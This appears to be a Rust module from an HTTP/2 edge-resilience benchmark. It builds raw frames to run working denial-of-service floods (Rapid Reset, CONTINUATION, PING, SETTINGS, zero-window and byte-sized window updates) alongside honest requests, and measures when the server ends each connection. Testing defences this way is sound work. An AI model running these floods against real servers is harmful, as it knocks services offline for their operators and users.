//! Attacks over HTTP/2 in clear, and honest requests of the same form to compare them with. A lane opens a connection,
//! floods it until the edge ends it, and begins again; it counts the bytes that the kernel took and how long the edge bore them.

use std::net::SocketAddr;
use std::str::FromStr;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedReadHalf;
use tokio::time::timeout;

use crate::connects::connect;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames or requests per write: a burst that an honest client may send, too.
const BATCH: u32 = 32;

/// How long a connection is borne at most; the lane then closes it and counts it as not ended.
const PATIENCE: Duration = Duration::from_secs(3);

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Requests, `BATCH` at a time, each answered before the next batch.
    Honest,
    RapidReset,
    Continuation,
    Ping,
    Settings,
    /// Requests whose answers may not leave.
    ZeroWindow,
    /// Answers that may leave byte by byte.
    ByteUpdates,
}

impl FromStr for Kind {
    type Err = anyhow::Error;

    fn from_str(text: &str) -> Result<Self> {
        Ok(match text {
            "honest" => Self::Honest,
            "rapid-reset" => Self::RapidReset,
            "continuation" => Self::Continuation,
            "ping" => Self::Ping,
            "settings" => Self::Settings,
            "zero-window" => Self::ZeroWindow,
            "byte-updates" => Self::ByteUpdates,
            other => bail!("unknown attack {other:?}"),
        })
    }
}

/// The attack.
#[derive(Clone)]
pub struct AttackPlan {
    pub address: SocketAddr,
    pub kind: Kind,
    pub duration: Duration,
    pub lanes: u8,
}

/// The results.
#[derive(Default, Serialize)]
pub struct Attacked {
    pub connections: u64,
    pub bytes: u64,
    pub requests: u64,
    /// Connections that the edge ended, those of them with a GOAWAY, and how long the edge bore the slowest of them.
    pub ended: u64,
    pub goaways: u64,
    pub longest_ms: u64,
    /// Connections that could not be made, and honest ones that ended early.
    pub errors: u64,
    pub first_error: Option<String>,
}

/// Attacks until the time is over.
pub async fn run(plan: AttackPlan) -> Result<Attacked> {
    let until = Instant::now() + plan.duration;
    let lanes: Vec<_> = (0..plan.lanes)
        .map(|lane| {
            let plan = plan.clone();
            tokio::spawn(async move {
                let mut seen = Attacked::default();
                while Instant::now() < until {
                    if let Err(error) = connection(&plan, lane, until, &mut seen).await {
                        seen.errors += 1;
                        seen.first_error.get_or_insert_with(|| format!("{error:#}"));
                        tokio::time::sleep(Duration::from_millis(20)).await;
                    }
                }
                seen
            })
        })
        .collect();
    let mut all = Attacked::default();
    for lane in lanes {
        let one = lane.await?;
        all.connections += one.connections;
        all.bytes += one.bytes;
        all.requests += one.requests;
        all.ended += one.ended;
        all.goaways += one.goaways;
        all.longest_ms = all.longest_ms.max(one.longest_ms);
        all.errors += one.errors;
        all.first_error = all.first_error.or(one.first_error);
    }
    Ok(all)
}

async fn connection(plan: &AttackPlan, lane: u8, until: Instant, seen: &mut Attacked) -> Result<()> {
    let (read, mut write) = connect(plan.address, lane).await?.into_split();
    let mut frames = Frames { read, buffer: Vec::new() };
    seen.connections += 1;
    let opening = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), plan.kind.opening()].concat();
    write.write_all(&opening).await?;
    seen.bytes += opening.len() as u64;
    if plan.kind == Kind::Honest {
        let mut stream = 1;
        while Instant::now() < until && stream < 100_000 {
            let batch: Vec<u8> = (0..BATCH).flat_map(|nth| request(stream + 2 * nth, b"/")).collect();
            write.write_all(&batch).await?;
            seen.bytes += batch.len() as u64;
            for _ in 0..BATCH {
                ensure!(frames.answered().await?, "an honest connection was ended");
                seen.requests += 1;
            }
            stream += 2 * BATCH;
        }
        return Ok(());
    }
    let (begun, mut sent) = (Instant::now(), 0);
    let flood = async {
        for nth in 0.. {
            let batch = plan.kind.batch(nth);
            if batch.is_empty() || write.write_all(&batch).await.is_err() {
                break;
            }
            sent += batch.len() as u64;
            tokio::task::yield_now().await;
        }
        std::future::pending::<()>().await
    };
    let patience = PATIENCE.min(until.saturating_duration_since(begun) + Duration::from_millis(1));
    let end = tokio::select! {
        () = flood => None,
        end = timeout(patience, frames.end()) => end.ok(),
    };
    seen.bytes += sent;
    if let Some(goaway) = end {
        seen.ended += 1;
        seen.goaways += u64::from(goaway);
        seen.longest_ms = seen.longest_ms.max(u64::try_from(begun.elapsed().as_millis())?);
    }
    Ok(())
}

impl Kind {
    /// SETTINGS, and what comes before the flood.
    fn opening(self) -> Vec<u8> {
        let window = |bytes: u32| [&[0, 4][..], &bytes.to_be_bytes()].concat();
        match self {
            Self::ZeroWindow => frame(SETTINGS, 0, 0, &window(0)),
            Self::ByteUpdates => [frame(SETTINGS, 0, 0, &window(1)), request(1, b"/64k")].concat(),
            Self::Continuation => {
                let mut start = frame(SETTINGS, 0, 0, &[]);
                start.extend(frame(HEADERS, END_STREAM, 1, &block(b"/")));
                start
            }
            _ => frame(SETTINGS, 0, 0, &[]),
        }
    }

    /// The next frames of the flood; empty = it is over.
    fn batch(self, nth: u32) -> Vec<u8> {
        let stream = |one: u32| 1 + 2 * (nth * BATCH + one);
        let one = |one: u32| match self {
            Self::RapidReset => {
                let mut both = request(stream(one), b"/");
                both.extend(frame(RST_STREAM, 0, stream(one), &8_u32.to_be_bytes()));
                both
            }
            // A field that is never indexed, of one byte each.
            Self::Continuation => frame(CONTINUATION, 0, 1, &[0x10, 1, b'a', 1, b'b']),
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::ZeroWindow => request(stream(one), b"/16k"),
            Self::ByteUpdates => frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
            Self::Honest => Vec::new(),
        };
        // As many requests without a window as a connection may have open.
        let most = if self == Self::ZeroWindow { 3 } else { u32::MAX };
        if nth >= most { Vec::new() } else { (0..BATCH).flat_map(one).collect() }
    }
}

/// A GET of this path by stream, without indexing (RFC 7541, appendix A).
fn request(stream: u32, path: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block(path))
}

fn block(path: &[u8]) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 4, u8::try_from(path.len()).unwrap_or(0)];
    block.extend(path);
    block.extend([1, 13]);
    block.extend(b"bench.example");
    block
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = length.to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// What the edge sends.
struct Frames {
    read: OwnedReadHalf,
    buffer: Vec<u8>,
}

impl Frames {
    /// The next frame's kind and flags; `None` = the connection is over.
    async fn next(&mut self) -> Option<(u8, u8)> {
        loop {
            if let Some(&[a, b, c, kind, flags, _, _, _, _]) = self.buffer.first_chunk::<9>() {
                let whole = 9 + u32::from_be_bytes([0, a, b, c]) as usize;
                if self.buffer.len() >= whole {
                    self.buffer.drain(..whole);
                    return Some((kind, flags));
                }
            }
            match self.read.read_buf(&mut self.buffer).await {
                Ok(1..) => {}
                Ok(0) | Err(_) => return None,
            }
        }
    }

    /// Waits for the end of an answer; `false` = the edge ends the connection.
    async fn answered(&mut self) -> Result<bool> {
        loop {
            let (kind, flags) = self.next().await.context("closed")?;
            match kind {
                DATA | HEADERS if flags & END_STREAM != 0 => return Ok(true),
                RST_STREAM | GOAWAY => return Ok(false),
                _ => {}
            }
        }
    }

    /// Waits until the edge has ended the connection; whether it said so.
    async fn end(&mut self) -> bool {
        while let Some((kind, _)) = self.next().await {
            if kind == GOAWAY {
                return true;
            }
        }
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_long_as_they_say_and_floods_have_an_end_where_streams_have() {
        assert_eq!(frame(PING, 0, 0, &[7; 8]).len(), 17);
        assert_eq!(Kind::Ping.batch(9).len(), 17 * BATCH as usize);
        assert!(Kind::ZeroWindow.batch(3).is_empty() && !Kind::ZeroWindow.batch(2).is_empty());
    }

    #[test]
    fn every_name_is_a_kind() {
        for name in
            ["honest", "rapid-reset", "continuation", "ping", "settings", "zero-window", "byte-updates"]
        {
            assert!(name.parse::<Kind>().is_ok(), "{name}");
        }
        assert!("slow".parse::<Kind>().is_err());
    }
}
